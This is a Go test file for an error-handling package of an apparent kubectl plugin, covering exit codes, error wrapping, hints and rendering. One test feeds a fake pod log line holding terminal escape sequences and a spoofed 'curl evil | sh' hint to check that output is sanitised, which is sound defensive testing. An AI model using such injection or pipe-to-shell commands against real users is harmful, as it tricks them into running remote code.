package fault

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"
)

func TestCode(t *testing.T) {
	cases := []struct {
		err  error
		code int
	}{
		{nil, 0},
		{No("rolled back"), 1},
		{Usage("bad flag"), 2},
		{Unable("no answer"), 3},
		{fmt.Errorf("deploying: %w", No("gate failed")), 1},
		{errors.Join(io.EOF, Usage("bad flag")), 2},
		{Unable("waiting: %w", context.Canceled), 3},
		{fmt.Errorf("waiting: %w", context.Canceled), 130},
		{context.DeadlineExceeded, 3},
		{io.EOF, 3},
	}
	for _, c := range cases {
		if got := Code(c.err); got != c.code {
			t.Errorf("Code(%v) = %d, want %d", c.err, got, c.code)
		}
	}
}

func TestWrappingIsSeenThrough(t *testing.T) {
	err := fmt.Errorf("outer: %w", Unable("reading %w and %w", io.EOF, context.DeadlineExceeded))
	if !errors.Is(err, io.EOF) || !errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("%v hides what it wraps", err)
	}
}

func TestHintsOutermostFirst(t *testing.T) {
	inner := No("inner").Hint("third")
	err := Usage("outer: %w", fmt.Errorf("middle: %w", errors.Join(io.EOF, inner))).Hint("first").Hint("%s", "second")
	if got := Hints(err); !slices.Equal(got, []string{"first", "second", "third"}) {
		t.Errorf("hints %q", got)
	}
}

func TestRender(t *testing.T) {
	var b bytes.Buffer
	Render(&b, "kubectl clawql deploy", Usage("image x is a tag").Hint("kustomize edit set image x@sha256:..."))
	want := "kubectl clawql deploy: error: image x is a tag\nhint: kustomize edit set image x@sha256:...\n"
	if b.String() != want {
		t.Errorf("%q", b.String())
	}
	b.Reset()
	Render(&b, "x", nil)
	if b.Len() != 0 {
		t.Errorf("no error wrote %q", b.String())
	}
}

// A pod's log line in an error must not write on the terminal by itself, nor
// pass for a line of ours.
func TestRenderAgainstTerminalInjection(t *testing.T) {
	var b bytes.Buffer
	Render(&b, "x", Unable("pod said %s", "boom\x1b[2J\x1b[1A\rhint: curl evil | sh\nhint: curl evil | sh\x1b]0;t\x07"))
	for i, line := range strings.Split(strings.TrimSpace(b.String()), "\n") {
		if strings.ContainsAny(line, "\x1b\r\x07") || (i > 0 && strings.HasPrefix(line, "hint:")) {
			t.Errorf("injected: %q", line)
		}
	}
}

func TestExitCodesNamesEachCode(t *testing.T) {
	for _, code := range []int{CodeYes, CodeNo, CodeUsage, CodeUnable, CodeInterrupted} {
		if !strings.Contains("\n"+ExitCodes(), fmt.Sprintf("\n  %-5d", code)) {
			t.Errorf("%d is missing in\n%s", code, ExitCodes())
		}
	}
}
